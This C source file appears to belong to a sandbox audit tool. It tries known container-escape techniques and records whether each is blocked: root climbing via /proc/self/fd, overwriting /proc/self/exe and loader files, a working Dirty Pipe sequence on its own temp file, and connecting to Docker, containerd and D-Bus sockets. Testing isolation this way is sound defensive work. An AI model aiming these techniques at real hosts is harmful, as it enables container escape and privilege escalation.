/* Rows 27, 28 (sockets as files) and 30: ways out by what is open, by links, and by names. */
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "attacks.h"
#include "attempt.h"
#include "report.h"
#include "text-file.h"

#define COUNT(list) (sizeof(list) / sizeof(list)[0])

static void climb_out(struct verdict *verdict)
{
	char path[80];
	struct stat root, top;
	if (getcwd(path, sizeof path) == NULL || path[0] != '/')
		attempt_worked(verdict, "the working directory", "it lies outside the root");
	else
		attempt_denied(verdict, "the working directory", path);
	for (int descriptor = 3; descriptor < 64; descriptor++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../..", descriptor);
		if (stat("/", &root) != 0 || stat(path, &top) != 0)
			continue;
		if (top.st_dev != root.st_dev || top.st_ino != root.st_ino)
			attempt_worked(verdict, path, "it leads to another root");
	}
	if (stat("/", &root) == 0 && stat("../../../../../../../../..", &top) == 0 && (top.st_dev != root.st_dev || top.st_ino != root.st_ino))
		attempt_worked(verdict, "../../..", "it leads to another root");
	else
		attempt_denied(verdict, "../../..", "it ends at the sandbox's root");
}

static void overwrite_runtime(struct verdict *verdict)
{
	static const char *const files[] = {"/proc/self/exe", "/sandglass-agent", "/sandglass-probe", "/proc/1/exe", "/etc/passwd", "/etc/ld.so.preload",
					    "/etc/ld.so.cache"};
	for (size_t at = 0; at < COUNT(files); at++)
		attempt_open(verdict, files[at], O_WRONLY);
}

static void write_root(struct verdict *verdict)
{
	static const char *const places[] = {"/sandglass-file", "/etc/sandglass-file", "/usr/sandglass-file", "/proc/sandglass-file", "/sys/sandglass-file",
					     "/dev/sandglass-file", "/var/sandglass-file", "/root/sandglass-file"};
	for (size_t at = 0; at < COUNT(places); at++) {
		int file = open(places[at], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
		if (!attempt(verdict, places[at], file))
			continue;
		close(file);
		unlink(places[at]);
	}
}

/*
 * CVE-2022-0847 on a file of its own: a page that was spliced into a pipe whose buffers once could be appended to. Where the kernel has
 * the fault, the file changes although it was opened for reading only.
 */
static void dirty_pipe(struct verdict *verdict)
{
	static const char path[] = "/tmp/sandglass-pipe";
	static char page[4096];
	int ends[2];
	int file = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	memset(page, 'a', sizeof page);
	bool is_written = file >= 0 && write(file, page, sizeof page) == (ssize_t)sizeof page;
	int reading = open(path, O_RDONLY | O_CLOEXEC);
	unlink(path);
	if (!is_written || reading < 0 || pipe(ends) != 0 || fcntl(ends[1], F_SETFL, O_NONBLOCK) != 0) {
		attempt_denied(verdict, "a file and a pipe", report_errno(errno));
		return;
	}
	size_t filled = 0;
	while (write(ends[1], page, sizeof page) == (ssize_t)sizeof page)
		filled += sizeof page;
	for (; filled > 0; filled -= sizeof page)
		if (read(ends[0], page, sizeof page) != (ssize_t)sizeof page)
			return;
	off_t offset = 0;
	if (splice(reading, &offset, ends[1], NULL, 1, 0) != 1 || write(ends[1], "b", 1) != 1) {
		attempt_denied(verdict, "splice", report_errno(errno));
		return;
	}
	if (pread(reading, page, 2, 0) == 2 && page[1] == 'b')
		attempt_worked(verdict, "a file opened for reading", "it was changed");
	else
		attempt_denied(verdict, "a file opened for reading", "unchanged");
}

static long connect_to(const char *name, size_t length)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	if (length > sizeof address.sun_path)
		return -1;
	memcpy(address.sun_path, name, length);
	int client = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (client < 0)
		return -1;
	long result = connect(client, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length));
	int error = errno;
	close(client);
	errno = error;
	return result;
}

static void reach_engine_socket(struct verdict *verdict)
{
	static const char *const sockets[] = {
		"/var/run/docker.sock", "/run/docker.sock", "/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
		"/run/crio/crio.sock", "/var/run/dockershim.sock", "/run/sandglass/engine.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
	};
	for (size_t at = 0; at < COUNT(sockets); at++)
		attempt(verdict, sockets[at], connect_to(sockets[at], strlen(sockets[at]) + 1));
}

static struct verdict *names_verdict;

static void take_unix_line(char *line)
{
	const char *name = strrchr(line, ' ');
	if (name != NULL && name[1] == '@')
		attempt_worked(names_verdict, name + 1, "it can be seen");
}

static void reach_abstract_sockets(struct verdict *verdict)
{
	static const char containerd[] = "\0/containerd-shim/moby/shim.sock", display[] = "\0/tmp/.X11-unix/X0", bus[] = "\0/tmp/dbus";
	const char *table = text_file("/proc/net/unix");
	names_verdict = verdict;
	if (table != NULL)
		text_lines(table, take_unix_line);
	attempt(verdict, "@/containerd-shim", connect_to(containerd, sizeof containerd - 1));
	attempt(verdict, "@/tmp/.X11-unix/X0", connect_to(display, sizeof display - 1));
	attempt(verdict, "@/tmp/dbus", connect_to(bus, sizeof bus - 1));
}

void attacks_on_files(void)
{
	static const struct attack attacks[] = {
		{27, "27-working-directory", "Climb out of the root",
		 "The working directory, and the way up from every open descriptor.",
		 "A folder of the host that was left open is a way out: CVE-2024-21626 began in a working directory under /proc/self/fd.", climb_out, 0},
		{27, "27-overwrite-runtime", "Overwrite the program that started it",
		 "Opens /proc/self/exe, /proc/1/exe, the agent, the probe and /etc's loader files for writing.",
		 "The root is read-only and belongs to root. CVE-2019-5736 overwrote runc on the host by way of /proc/self/exe.", overwrite_runtime, 0},
		{27, "27-write-root", "Write anywhere but in the workspace",
		 "Makes a file in /, /etc, /usr, /proc, /sys, /dev, /var and /root.",
		 "The root file system is mounted read-only, and the program is not its owner.", write_root, 0},
		{27, "27-dirty-pipe", "Change a file that is open for reading",
		 "The steps of CVE-2022-0847 (\"Dirty Pipe\"), on a file of its own.",
		 "The kernel forgot to clear a flag: a program could change every file that it could read, images' too. Fixed in Linux 5.16.11.",
		 dirty_pipe, 0},
		{28, "28-engine-socket", "Reach the container engine's socket",
		 "Connects to the sockets of Docker, containerd, Podman, CRI-O, this server's own engine, and the system's bus.",
		 "None is mounted. Who speaks to the engine is root of the machine.", reach_engine_socket, 0},
		{30, "30-abstract-sockets", "Find an abstract socket",
		 "Reads /proc/net/unix and connects to the names of containerd's shim, an X server and a bus.",
		 "Abstract names belong to the network namespace, and this sandbox has its own (CVE-2020-15257).", reach_abstract_sockets, 0},
	};
	attack_all(attacks, COUNT(attacks));
}
